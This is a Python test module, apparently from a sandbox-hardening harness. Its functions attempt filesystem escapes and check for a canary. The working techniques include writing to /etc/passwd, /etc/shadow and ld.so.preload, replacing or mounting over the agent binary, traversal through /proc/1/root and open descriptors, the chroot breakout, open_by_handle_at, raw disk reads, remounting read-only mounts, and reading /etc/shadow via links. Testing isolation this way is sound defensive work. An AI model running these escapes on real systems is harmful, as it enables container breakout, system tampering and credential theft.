"""Reaching files that are not the sandbox's own."""

import ctypes
import os
import stat

from trying import CANARY, attempt, call, first, has_marker, make_node, opens_for_writing, reads


@attempt("filesystem", "user")
def writes_what_the_image_holds():
    def write(path):
        with open(path, "a") as file:
            file.write("\n")
        return f"{path} was written"

    def create(folder):
        with open(f"{folder}/new", "w"):
            return f"{folder} was written"

    files = ("/etc/passwd", "/etc/shadow", "/etc/ld.so.preload", "/usr/bin/python3", "/bin/sh", "/lib64/ld-linux-x86-64.so.2")
    folders = ("/", "/etc", "/usr/bin", "/usr/lib", "/root", "/opt", "/proc", "/sys", "/dev")
    return first(*[lambda p=p: write(p) for p in files], *[lambda f=f: create(f) for f in folders])


@attempt("filesystem")
def replaces_the_agent():
    agent = CANARY["agent"]
    return first(lambda: opens_for_writing(agent), lambda: opens_for_writing("/proc/1/exe"),
                 lambda: os.truncate(agent, 0) or "it was truncated",
                 lambda: os.unlink(agent) or "it was removed", lambda: os.rename(agent, agent + ".old") or "it was renamed",
                 lambda: os.chmod(agent, 0o777) or "its mode was changed",
                 lambda: os.chown(agent, 1000, 1000) or "its owner was changed",
                 lambda: call("mount", b"/bin/true", agent.encode(), b"", 4096, b"") or "it was mounted over")


@attempt("filesystem")
def writes_into_the_folder_it_shares_with_the_host():
    folder = CANARY["shared"]

    def create():
        with open(f"{folder}/new", "w"):
            return f"{folder}/new was made"

    def remove():
        for name in os.listdir(folder):
            os.unlink(f"{folder}/{name}")
            return f"{folder}/{name} was removed"

    return first(create, lambda: os.mkdir(f"{folder}/d") or "a folder was made",
                 lambda: os.symlink("/etc/passwd", f"{folder}/l") or "a link was made",
                 lambda: os.mknod(f"{folder}/n", 0o600 | stat.S_IFIFO) or "a pipe was made", remove)


@attempt("filesystem")
def reads_a_file_of_the_host_by_its_path():
    path = CANARY["file"]
    ways = [path, "/../../.." + path, "/proc/1/root" + path, "/proc/self/root/../.." + path, "/proc/1/cwd" + path,
            CANARY["shared"] + "/../../../../../.." + path, "/dev/fd/../../.." + path]
    return first(*[lambda w=w: has_marker(reads(w)) for w in ways])


@attempt("filesystem")
def climbs_out_through_an_open_descriptor():
    tries = []
    for name in os.listdir("/proc/self/fd"):
        for up in ("..", "../../../../../../..", "."):
            tries.append(lambda n=name, u=up: has_marker(reads(f"/proc/self/fd/{n}/{u}{CANARY['file']}")))
            tries.append(lambda n=name, u=up: has_marker(through(int(n), u)))
    return first(*tries)


def through(descriptor, up):
    folder = os.open(up, os.O_PATH | os.O_DIRECTORY, dir_fd=descriptor)
    return os.read(os.open(CANARY["file"][1:], os.O_RDONLY, dir_fd=folder), 4096)


@attempt("filesystem", "root")
def climbs_out_by_changing_its_root():
    os.makedirs("/tmp/jail", exist_ok=True)
    outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return has_marker(reads(CANARY["file"]))


@attempt("filesystem")
def opens_a_file_of_the_host_by_its_handle():
    """Needs no path: only a descriptor on the same file system, such as the folder that is shared."""
    raw = bytes.fromhex(CANARY["handle"])
    handle = ctypes.create_string_buffer(len(raw).to_bytes(4, "little") + CANARY["handle_type"].to_bytes(4, "little") + raw)

    def through(path):
        mount = os.open(path, os.O_RDONLY | os.O_DIRECTORY if os.path.isdir(path) else os.O_RDONLY)
        return has_marker(os.read(call("open_by_handle_at", mount, handle, os.O_RDONLY), 4096))

    return first(*[lambda p=p: through(p) for p in (CANARY["shared"], CANARY["agent"], "/", "/etc", "/tmp", "/dev", "/proc")])


@attempt("filesystem")
def opens_a_raw_disk():
    found = ["/dev/" + name for name in os.listdir("/dev") if stat.S_ISBLK(os.lstat("/dev/" + name).st_mode)]
    return first(lambda: has_marker(reads(make_node("/tmp/disk", stat.S_IFBLK, CANARY["disk"]))), *[lambda d=d: has_marker(reads(d)) for d in found],
                 lambda: f"there is {found[0]}" if found else None)


@attempt("filesystem", "root")
def makes_read_only_mounts_writable():
    remount, bind, read_write = 32, 4096, 0
    targets = (CANARY["shared"], CANARY["agent"], "/", "/proc/sys", "/sys")
    return first(*[lambda t=t: call("mount", b"none", t.encode(), b"", remount | bind | read_write, b"")
                   or f"{t} was mounted again" for t in targets],
                 lambda: call("mount_setattr", -100, CANARY["shared"].encode(), 0,
                              ctypes.create_string_buffer(b"\0" * 8 + b"\1" + b"\0" * 23), 32) or "mount_setattr changed it")


@attempt("filesystem", "user")
def reads_what_is_root_s_through_links():
    os.makedirs("/tmp/links", exist_ok=True)

    def hard():
        os.link("/etc/shadow", "/tmp/links/hard")
        return f"it read {reads('/tmp/links/hard')[:20]}"

    def soft():
        os.symlink("/etc/shadow", "/tmp/links/soft")
        return f"it read {reads('/tmp/links/soft')[:20]}"

    return first(hard, soft, lambda: f"it read {reads('/proc/1/root/etc/shadow')[:20]}")
